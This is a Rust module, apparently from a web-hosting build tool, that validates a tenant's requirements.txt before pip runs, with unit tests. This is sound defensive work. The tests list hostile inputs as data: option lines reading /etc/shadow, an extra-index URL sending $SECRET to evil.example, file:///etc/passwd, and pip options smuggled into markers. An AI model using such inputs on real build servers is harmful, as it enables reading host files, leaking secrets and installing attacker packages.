//! A site's `requirements.txt`, read as data: package requirements, never a pip command line.
//!
//! Sits at the start of a site build (`site.rs`), before pip runs. The tenant's file is parsed
//! here and only what it may say survives: one requirement per line, each a package name on
//! the server's index with optional extras, version specifiers, an environment marker and
//! `--hash` options (pip's hash-checking mode). The build then hands pip a file it wrote
//! itself from the parsed requirements ([`render`]), so nothing in the tenant's file reaches
//! pip as an option:
//!
//! - option lines (`-r FILE`, `-c FILE`, `--index-url`, `--find-links`, `--no-binary`, `-e`,
//!   …) are refused: they would read host files, reach other hosts, or build source packages
//!   natively on the host;
//! - paths (`./dist/pkg.whl`, `../other-site`), URLs (`https://…`) and direct references
//!   (`name @ url`) are refused: packages come from the server's configured index only;
//! - marker strings may not hold whitespace or quotes, so no token of a rendered line can be
//!   read by pip as an option.
//!
//! Every refusal names the file, the line and the reason; all of a file's errors are
//! reported at once.

use std::fmt;

/// One requirement: `name[extras] specifiers ; marker --hash=…`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Requirement {
    pub name: String,
    pub extras: Vec<String>,
    /// Comma-separated clauses such as `>=3.1,<4`, without spaces; empty for any version.
    pub specifier: String,
    /// The environment marker, its tokens separated by single spaces.
    pub marker: Option<String>,
    /// `sha256:…` digests pip checks the downloaded file against.
    pub hashes: Vec<String>,
}

/// A line of the file that is not a requirement the server accepts.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{file}: line {line}: {reason}")]
pub struct RequirementError {
    pub file: String,
    pub line: usize,
    pub reason: String,
}

/// Longest requirements file read, and most requirements in it.
pub const MAX_BYTES: usize = 256 * 1024;
const MAX_REQUIREMENTS: usize = 1000;

/// Parses the requirements file `text` (named `file` in errors).
pub fn parse(text: &str, file: &str) -> Result<Vec<Requirement>, Vec<RequirementError>> {
    let mut requirements = Vec::new();
    let mut errors = Vec::new();
    let error = |line: usize, reason: String| RequirementError {
        file: file.to_owned(),
        line,
        reason,
    };
    if text.len() > MAX_BYTES {
        return Err(vec![error(
            1,
            format!("the file is over {} KiB", MAX_BYTES / 1024),
        )]);
    }
    for (line, content) in logical_lines(text) {
        if content.is_empty() {
            continue;
        }
        match parse_line(&content) {
            Ok(requirement) => requirements.push(requirement),
            Err(reason) => errors.push(error(line, reason)),
        }
    }
    if requirements.len() > MAX_REQUIREMENTS {
        errors.push(error(
            1,
            format!(
                "{} requirements: at most {MAX_REQUIREMENTS}",
                requirements.len()
            ),
        ));
    }
    if errors.is_empty() {
        Ok(requirements)
    } else {
        Err(errors)
    }
}

/// The requirements as a file for pip: one line each, in their normalized form.
pub fn render(requirements: &[Requirement]) -> String {
    let mut out = String::from("# Written by wsgi-wasm from the site's requirements.\n");
    for requirement in requirements {
        out.push_str(&requirement.to_string());
        out.push('\n');
    }
    out
}

impl fmt::Display for Requirement {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.name)?;
        if !self.extras.is_empty() {
            write!(f, "[{}]", self.extras.join(","))?;
        }
        write!(f, "{}", self.specifier)?;
        if let Some(marker) = &self.marker {
            write!(f, " ; {marker}")?;
        }
        for hash in &self.hashes {
            write!(f, " --hash={hash}")?;
        }
        Ok(())
    }
}

/// The file's lines with comments removed and `\` continuations joined, each with the
/// number of the line it starts on.
fn logical_lines(text: &str) -> Vec<(usize, String)> {
    let mut lines = Vec::new();
    let mut pending: Option<(usize, String)> = None;
    for (index, raw) in text.lines().enumerate() {
        let raw = raw.strip_suffix('\r').unwrap_or(raw);
        let (start, mut joined) = pending.take().unwrap_or((index + 1, String::new()));
        let content = strip_comment(raw);
        match content.strip_suffix('\\') {
            Some(rest) => {
                joined.push_str(rest);
                joined.push(' ');
                pending = Some((start, joined));
            }
            None => {
                joined.push_str(content);
                lines.push((start, joined.trim().to_owned()));
            }
        }
    }
    if let Some((start, joined)) = pending {
        lines.push((start, joined.trim().to_owned()));
    }
    lines
}

/// A line without its comment: `#` at the start or after whitespace, as pip reads it.
fn strip_comment(line: &str) -> &str {
    let bytes = line.as_bytes();
    for (at, &byte) in bytes.iter().enumerate() {
        if byte == b'#' && (at == 0 || bytes[at - 1].is_ascii_whitespace()) {
            return &line[..at];
        }
    }
    line
}

fn parse_line(line: &str) -> Result<Requirement, String> {
    if let Some(option) = line.strip_prefix('-') {
        let name = option.split([' ', '\t', '=']).next().unwrap_or("");
        return Err(format!(
            "`-{name}`: option lines are not accepted; list package requirements only (the \
             server chooses the package index, and builds use wheels only)"
        ));
    }
    // As pip does: the first token that starts with `-` begins the line's options.
    let tokens: Vec<&str> = line.split_whitespace().collect();
    let split = tokens
        .iter()
        .position(|token| token.starts_with('-'))
        .unwrap_or(tokens.len());
    let spec = tokens[..split].join(" ");
    let hashes = hash_options(&tokens[split..])?;
    let mut requirement = parse_spec(&spec)?;
    requirement.hashes = hashes;
    Ok(requirement)
}

/// `--hash=sha256:…` (or `--hash sha256:…`) options; any other option is refused.
fn hash_options(tokens: &[&str]) -> Result<Vec<String>, String> {
    let mut hashes = Vec::new();
    let mut tokens = tokens.iter();
    while let Some(token) = tokens.next() {
        let value = match token.strip_prefix("--hash") {
            Some("") => tokens.next().copied().unwrap_or(""),
            Some(rest) if rest.starts_with('=') => &rest[1..],
            _ => {
                return Err(format!(
                    "`{token}`: only `--hash` options may follow a requirement"
                ))
            }
        };
        let (algorithm, digest) = value.split_once(':').unwrap_or(("", ""));
        let length = match algorithm {
            "sha256" => 64,
            "sha384" => 96,
            "sha512" => 128,
            _ => 0,
        };
        let hex = digest.len() == length && digest.bytes().all(|b| b.is_ascii_hexdigit());
        if length == 0 || !hex {
            return Err(format!(
                "`{value}` is not a hash such as `sha256:` followed by 64 hex digits"
            ));
        }
        hashes.push(format!("{algorithm}:{}", digest.to_ascii_lowercase()));
    }
    Ok(hashes)
}

fn parse_spec(spec: &str) -> Result<Requirement, String> {
    if spec.split(';').next().unwrap_or(spec).contains('@') {
        return Err(format!(
            "`{spec}`: direct references (`name @ URL`) are not accepted; packages come from \
             the server's package index"
        ));
    }
    if looks_like_location(spec) {
        return Err(format!(
            "`{spec}`: paths and URLs are not accepted; name a package on the package index, \
             such as `flask==3.1.3`"
        ));
    }
    let (before_marker, marker) = match spec.split_once(';') {
        Some((before, marker)) => (before.trim(), Some(parse_marker(marker.trim())?)),
        None => (spec.trim(), None),
    };
    let name_end = before_marker
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
        .unwrap_or(before_marker.len());
    let name = &before_marker[..name_end];
    if !is_name(name) {
        return Err(format!(
            "`{spec}` is not a requirement such as `flask==3.1.3` or `requests[socks]>=2.32`"
        ));
    }
    let mut rest = before_marker[name_end..].trim_start();
    let mut extras = Vec::new();
    if let Some(after) = rest.strip_prefix('[') {
        let end = after
            .find(']')
            .ok_or_else(|| format!("`{spec}`: the extras' `[` is not closed"))?;
        for extra in after[..end].split(',').map(str::trim) {
            if !is_name(extra) {
                return Err(format!("`{spec}`: `{extra}` is not an extra's name"));
            }
            extras.push(extra.to_owned());
        }
        rest = after[end + 1..].trim_start();
    }
    Ok(Requirement {
        name: name.to_owned(),
        extras,
        specifier: parse_specifier(rest).map_err(|reason| format!("`{spec}`: {reason}"))?,
        marker,
        hashes: Vec::new(),
    })
}

/// Whether `spec` names a file, folder or URL rather than a package.
fn looks_like_location(spec: &str) -> bool {
    let head = spec.split(';').next().unwrap_or(spec).trim();
    let lower = head.to_ascii_lowercase();
    head.contains(['/', '\\'])
        || head.starts_with('.')
        || head.starts_with('~')
        || lower.contains("://")
        || lower.starts_with("file:")
        || [".whl", ".zip", ".tar.gz", ".tgz", ".tar.bz2", ".tar"]
            .iter()
            .any(|ext| lower.ends_with(ext))
}

/// PEP 508 names (and extras): letters and digits, with `.`, `_`, `-` inside.
fn is_name(name: &str) -> bool {
    let bytes = name.as_bytes();
    !bytes.is_empty()
        && name.len() <= 200
        && bytes[0].is_ascii_alphanumeric()
        && bytes[bytes.len() - 1].is_ascii_alphanumeric()
        && bytes
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
}

/// Version clauses (`>=3.1, <4`, optionally in parentheses) → `>=3.1,<4`.
fn parse_specifier(text: &str) -> Result<String, String> {
    let text = text.trim();
    let text = match text.strip_prefix('(') {
        Some(inner) => inner
            .strip_suffix(')')
            .ok_or("the version's `(` is not closed")?
            .trim(),
        None => text,
    };
    if text.is_empty() {
        return Ok(String::new());
    }
    let mut clauses = Vec::new();
    for clause in text.split(',') {
        let clause = clause.trim();
        let operator = ["===", "~=", "==", "!=", "<=", ">=", "<", ">"]
            .into_iter()
            .find(|op| clause.starts_with(op))
            .ok_or_else(|| format!("`{clause}` is not a version clause such as `>=1.2`"))?;
        let version = clause[operator.len()..].trim();
        let valid = !version.is_empty()
            && version.len() <= 100
            && version.bytes().all(|b| {
                b.is_ascii_alphanumeric() || matches!(b, b'.' | b'*' | b'+' | b'!' | b'_' | b'-')
            })
            && !version.starts_with('-');
        if !valid {
            return Err(format!("`{version}` is not a version"));
        }
        clauses.push(format!("{operator}{version}"));
    }
    Ok(clauses.join(","))
}

/// The PEP 508 marker variables.
const MARKER_VARIABLES: &[&str] = &[
    "python_version",
    "python_full_version",
    "os_name",
    "sys_platform",
    "platform_release",
    "platform_system",
    "platform_version",
    "platform_machine",
    "platform_python_implementation",
    "implementation_name",
    "implementation_version",
    "extra",
];

/// Checks an environment marker token by token; returns it with single spaces between
/// tokens.
fn parse_marker(marker: &str) -> Result<String, String> {
    let invalid = |why: String| format!("marker `{marker}`: {why}");
    let mut tokens = Vec::new();
    let mut rest = marker;
    let mut depth = 0usize;
    while let Some(c) = rest.chars().next() {
        if c.is_whitespace() {
            rest = &rest[c.len_utf8()..];
            continue;
        }
        let token_len = if c == '"' || c == '\'' {
            let end = rest[1..]
                .find(c)
                .ok_or_else(|| invalid("a string is not closed".into()))?;
            let inner = &rest[1..1 + end];
            let plain = inner
                .bytes()
                .all(|b| b.is_ascii_graphic() && b != b'"' && b != b'\'' && b != b'\\');
            if !plain {
                return Err(invalid(format!(
                    "the string `{inner}` may hold only printable characters without spaces"
                )));
            }
            end + 2
        } else if c == '(' || c == ')' {
            if c == '(' {
                depth += 1;
            } else {
                depth = depth
                    .checked_sub(1)
                    .ok_or_else(|| invalid("a `)` has no `(`".into()))?;
            }
            1
        } else if "=!<>~".contains(c) {
            let len = rest
                .find(|c: char| !"=!<>~".contains(c))
                .unwrap_or(rest.len());
            let op = &rest[..len];
            if !["==", "!=", "<=", ">=", "<", ">", "~=", "==="].contains(&op) {
                return Err(invalid(format!("`{op}` is not a comparison")));
            }
            len
        } else if c.is_ascii_alphabetic() || c == '_' {
            let len = rest
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(rest.len());
            let word = &rest[..len];
            if !(MARKER_VARIABLES.contains(&word) || ["and", "or", "in", "not"].contains(&word)) {
                return Err(invalid(format!("`{word}` is not a marker variable")));
            }
            len
        } else {
            return Err(invalid(format!("unexpected `{c}`")));
        };
        tokens.push(&rest[..token_len]);
        rest = &rest[token_len..];
    }
    if depth != 0 {
        return Err(invalid("a `(` is not closed".into()));
    }
    if tokens.is_empty() {
        return Err(invalid("it is empty".into()));
    }
    Ok(tokens.join(" "))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(line: &str) -> Result<Requirement, String> {
        parse(line, "requirements.txt")
            .map(|mut list| list.remove(0))
            .map_err(|errors| errors[0].reason.clone())
    }

    #[test]
    fn requirements_accept_specifiers_extras_markers_and_hashes() {
        let text = "# pinned\nFlask==3.1.3  # the framework\n\nrequests[socks, security] >= 2.32, <3\n\
                    legacy-cgi ; python_version >= \"3.13\"\n\
                    tzdata==2026.6 \\\n    --hash=sha256:ABCDEF0123456789abcdef0123456789abcdef0123456789abcdef0123456789\n\
                    zope.interface (>=6.0)\n";
        let list = parse(text, "requirements.txt").unwrap();
        let rendered: Vec<String> = list.iter().map(ToString::to_string).collect();
        assert_eq!(
            rendered,
            [
                "Flask==3.1.3",
                "requests[socks,security]>=2.32,<3",
                "legacy-cgi ; python_version >= \"3.13\"",
                "tzdata==2026.6 --hash=sha256:abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789",
                "zope.interface>=6.0",
            ]
        );
        assert!(render(&list).ends_with("zope.interface>=6.0\n"));
    }

    #[test]
    fn requirements_refuse_option_lines() {
        for line in [
            "-r /etc/shadow",
            "--requirement=/etc/shadow",
            "-c constraints.txt",
            "--index-url https://evil.example/simple",
            "--extra-index-url=https://evil.example/$SECRET",
            "--find-links ../othersite/dist",
            "--no-binary :all:",
            "-e .",
            "--trusted-host evil.example",
        ] {
            let reason = one(line).unwrap_err();
            assert!(
                reason.contains("option lines are not accepted"),
                "{line}: {reason}"
            );
        }
    }

    #[test]
    fn requirements_refuse_paths_urls_and_direct_references() {
        for line in [
            "./dist/evil-1.0.tar.gz",
            "../othersite",
            "/srv/sites/other/pkg",
            "evil.whl",
            "evil-1.0-py3-none-any.whl",
            "https://evil.example/evil.zip",
            "file:///etc/passwd",
            "git+https://evil.example/repo",
            "~/pkg",
        ] {
            let reason = one(line).unwrap_err();
            assert!(
                reason.contains("paths and URLs are not accepted"),
                "{line}: {reason}"
            );
        }
        let reason = one("evil @ https://evil.example/evil.whl").unwrap_err();
        assert!(reason.contains("direct references"), "{reason}");
    }

    #[test]
    fn requirements_refuse_options_smuggled_after_a_requirement() {
        let reason = one("flask --index-url=https://evil.example").unwrap_err();
        assert!(reason.contains("only `--hash` options"), "{reason}");
        let reason = one("flask ; python_version == \"3 --index-url=x\"").unwrap_err();
        assert!(reason.contains("only `--hash` options"), "{reason}");
        let reason = one("flask ; python_version == \"3\t-x\"").unwrap_err();
        assert!(!reason.is_empty());
        let reason = one("flask ; os.system('x')").unwrap_err();
        assert!(reason.contains("is not a marker variable"), "{reason}");
        let reason = one("flask --hash=md5:abc").unwrap_err();
        assert!(reason.contains("is not a hash"), "{reason}");
    }

    #[test]
    fn requirements_report_every_bad_line_with_its_number() {
        let errors = parse("flask\n-r x\nok==1\n\\\n./y\n", "site/requirements.txt").unwrap_err();
        let lines: Vec<usize> = errors.iter().map(|e| e.line).collect();
        assert_eq!(lines, [2, 4]);
        assert!(errors[0]
            .to_string()
            .starts_with("site/requirements.txt: line 2: `-r`: option lines"));
    }

    #[test]
    fn requirements_refuse_malformed_names_and_versions() {
        for line in [
            "flask==",
            "fl ask",
            "flask[",
            "flask>=1.0 2.0",
            "_flask",
            "flask ~ 1",
        ] {
            assert!(one(line).is_err(), "{line}");
        }
    }
}
